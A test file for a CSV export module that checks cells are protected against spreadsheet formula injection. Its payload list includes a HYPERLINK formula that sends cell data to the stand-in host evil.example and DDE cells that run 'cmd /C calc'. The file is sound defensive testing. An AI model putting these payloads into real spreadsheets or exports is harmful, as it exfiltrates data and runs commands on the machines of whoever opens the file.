// CSV export against formula injection (OWASP "CSV Injection"): crafted cells come out as text.
import { describe, expect, it } from 'vitest';
import { csvField, toCsv, toJson } from './export.ts';

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '=1+2',
  '+SUM(A1:A9)',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+2',
  '\r=1+2',
];

describe('CSV export', () => {
  it('prefixes every formula-leading cell with an apostrophe and quotes it', () => {
    for (const payload of PAYLOADS) {
      expect(csvField(payload), payload).toBe(`"'${payload.replace(/"/g, '""')}"`);
    }
  });

  it('neutralises crafted cells anywhere in the rows (texts, nested fields, plural forms, lists, headers)', () => {
    const csv = toCsv([
      {
        id: 1,
        text: "=cmd|' /C calc'!A0",
        identifier: '@import',
        context: '+1',
        user: { username: '-evil', fullName: '=2*3' },
        labels: ['=A1', 'ok'],
      },
      { id: 2, text: { one: '=one', other: '\t=other' } },
      { '=header': 'x' },
    ]);
    const cells = csv.split('\r\n').flatMap((line) => line.split(','));
    for (const cell of cells) expect(cell, cell).not.toMatch(/^"?[=+\-@\t\r]/);
    expect(csv).toContain(`"'=cmd|' /C calc'!A0"`);
    expect(csv).toContain(`"'=A1; ok"`);
  });

  it('leaves plain numbers and ordinary text alone, and the JSON export raw', () => {
    expect(csvField('-5')).toBe('-5');
    expect(csvField('-0.25')).toBe('-0.25');
    expect(csvField('Save')).toBe('Save');
    expect(csvField('a=b')).toBe('a=b');
    expect(toJson([{ text: '=1+2' }])).toContain('"text": "=1+2"');
  });
});
